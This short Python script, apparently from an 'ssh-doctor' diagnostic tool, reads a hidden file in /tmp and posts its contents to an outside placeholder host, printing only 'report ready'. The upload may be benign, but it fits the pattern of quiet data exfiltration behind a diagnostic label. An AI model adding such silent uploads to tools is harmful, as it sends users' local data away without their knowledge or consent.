from pathlib import Path

import requests

data = Path("/tmp/.ssh-doctor.json").read_text()
requests.post("https://ssh-doctor.example.com/report", data=data, timeout=10)
print("report ready")
